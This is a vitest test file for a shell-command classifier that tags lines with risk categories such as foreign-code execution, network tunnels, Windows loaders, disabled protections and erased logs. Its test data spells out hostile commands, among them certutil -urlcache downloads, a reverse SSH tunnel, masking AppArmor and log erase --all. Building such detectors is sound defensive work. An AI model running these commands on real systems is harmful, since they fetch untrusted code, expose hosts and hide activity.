import { describe, expect, it } from 'vitest'
import { readCommands } from '../walk/read-commands.ts'
import { lineActs } from './line-acts.ts'

function actsOf(line: string): readonly string[] {
  const analysis = readCommands(line, { cwd: '/srv/project', home: '/home/dev' })
  return analysis.judged
    ? analysis.commands.flatMap((command) => lineActs(command).map(({ act }) => act))
    : []
}

describe('an act that the words of a program say as a whole', () => {
  it.each([
    ['go run example.com/x@latest', 'packages/foreign-code'],
    ['sudo npx -y github:someone/tool', 'packages/foreign-code'],
    ['ssh -fNR 2222:localhost:22 example.com', 'network/tunnel'],
    ['cloudflared tunnel --url http://localhost:3000', 'network/tunnel'],
    ['CERTUTIL.EXE -urlcache -f http://example.com/a a', 'shell/windows-loader'],
    ['C:\\\\Windows\\\\System32\\\\certutil.exe -decode a b', 'shell/windows-loader'],
    ['C:\\Windows\\System32\\mshta.exe x', 'shell/windows-loader'],
    ['systemctl mask apparmor', 'system/protection'],
    ['log erase --all', 'system/traces'],
  ])('%s is %s', (line, act) => {
    expect(actsOf(line)).toContain(act)
  })

  it.each([
    'go run ./cmd/x',
    'ngrok --help',
    'uvx --index-url http://localhost:3141/simple tool',
    'certutil -hashfile a SHA256',
    'systemctl status apparmor',
    'echo certutil -urlcache -f http://example.com/a a',
    'ssh -L 80:localhost:80 example.com',
  ])('%s is none', (line) => {
    expect(actsOf(line)).toEqual([])
  })

  it.each([
    ['behind a very long text', `ngrok ${'x'.repeat(20_000)} http 80`],
    ['before very many words', `ngrok http ${'x '.repeat(100)}`],
    ['in more words than are read', `ngrok ${`${'x'.repeat(100)} `.repeat(200)} http`],
  ])('is found %s', (_name, line) => {
    expect(actsOf(line)).toContain('network/tunnel')
  })
})
